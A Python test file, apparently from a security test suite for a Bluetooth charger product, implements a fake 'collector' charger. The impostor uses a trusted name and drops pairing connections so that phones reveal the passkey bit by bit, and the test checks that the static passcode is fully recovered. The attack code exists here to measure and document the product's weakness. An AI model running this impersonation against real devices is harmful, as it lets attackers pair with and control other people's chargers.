"""The collector: a charger of its own, with the name that people trust. It wants their passcode.

Where the passcode is the passkey, each phone that pairs with it shows its bits in turn, and sees
no more than a lost connection; the charger that is imitated is not even there. Where people type
codes of a pairing window, it collects the code of that window.
"""

import asyncio
import random
from contextlib import AsyncExitStack
from pathlib import Path

from bumble import hci, pairing
from bumble.device import Device
from bumble.smp import SMP_CID

from attacks.bits import ROUNDS, Collector
from attacks.dialog import Phones, device, of, phones, window
from attacks.report import Row, Tell
from attacks.stage import victim
from attacks.test_pairing_mirror import Person, pairs
from chargepin.app.pairing import PhonePaired
from charger.imitated import bench
from ends import PATIENCE_S

VERSION = "6.11.26"
PASSCODE = "382913"
COLLECTOR = "F2:00:00:00:FF:FE"


class Fake:
    """The collector's Bluetooth."""

    def __init__(self, own: Device, collector: Collector) -> None:
        self._own = own
        self._collector = collector
        own.l2cap_channel_manager.register_fixed_channel(SMP_CID, self._heard)
        self._leaving: set[asyncio.Task[None]] = set()

    def _heard(self, handle: int, pdu: bytes) -> None:
        answer = self._collector.answer(pdu)
        connection = self._own.connections[handle]
        if answer is not None:
            connection.send_l2cap_pdu(SMP_CID, answer)
            return
        task = asyncio.create_task(connection.disconnect())
        self._leaving.add(task)
        task.add_done_callback(self._leaving.discard)


async def visits(radio: str, attacker: Phones, code: int, collector: Collector) -> int:
    """One person's stock phone comes back and back; gives how often it took."""
    async with AsyncExitStack() as stack:
        own = await device(stack, radio, COLLECTOR)
        Fake(own, collector)
        await own.start_advertising(
            auto_restart=True, advertising_interval_min=20, advertising_interval_max=20
        )
        phone = await attacker.phone()
        phone.pairing_config_factory = lambda _: pairing.PairingConfig(
            delegate=Person(code),
            identity_address_type=pairing.PairingConfig.AddressType.RANDOM,
        )
        count = 0
        while collector.code is None:
            count += 1
            async with asyncio.timeout(PATIENCE_S):
                link = await phone.connect(hci.Address(COLLECTOR))
                over: asyncio.Future[int] = asyncio.get_running_loop().create_future()
                link.on("disconnection", over.set_result)
                attempt = asyncio.create_task(link.pair())
                await over
                await asyncio.gather(attempt, return_exceptions=True)  # a lost connection
        await own.power_off()
        return count


def collector() -> Collector:
    return Collector(random.Random(PASSCODE))  # noqa: S311 - the same guesses in every run


async def test_collector(tmp_path: Path, tell: Tell) -> None:
    codes = iter((271_828, *range(100)))
    async with victim(tmp_path / "held", draw=lambda _: next(codes)) as on:
        owner, radio = await on.owner_in(), on.ends.room.address
        async with window(owner) as shown, phones(radio, of(on)) as attacker:
            held = collector()
            # A person who types the same code as often as it takes, within the two minutes.
            typed = await visits(radio, attacker, int(shown.codes[-1].code), held)
            assert held.code == 271_828
            assert await pairs(attacker, held.code)
            await shown.until(PhonePaired)
        (paired,) = [each for each in await owner.phones() if each.kind == "bluetooth"]
        assert paired.role == "user"
        await owner.forget_phone(paired.id)
        async with window(owner), phones(radio, of(on)) as attacker:
            assert not await pairs(attacker, held.code)
        assert on.charged == 0
        await owner.close()

    async with bench(tmp_path) as there:
        charger, radio = await there.switch_on(VERSION, PASSCODE), there.room.address
        async with phones(radio, charger.address) as attacker:
            free = collector()
            count = await visits(radio, attacker, int(PASSCODE), free)
            assert there.said[1:] == []  # the charger saw nothing of it
            assert free.code == int(PASSCODE)
            assert await pairs(attacker, free.code)
            assert await pairs(attacker, free.code)
    assert max(typed, count) <= ROUNDS
    tell(
        Row(
            "21 collector, as a charger",
            typed,
            f"the code of one window, of who types it {typed} times in its two minutes: a user,"
            " listed and forgotten; never the passcode",
            f"the passcode, of a phone that comes {count} times to a charger by its name; for good",
            "codes of a window are no passcode, and die with it; nobody notices in either case",
        )
    )
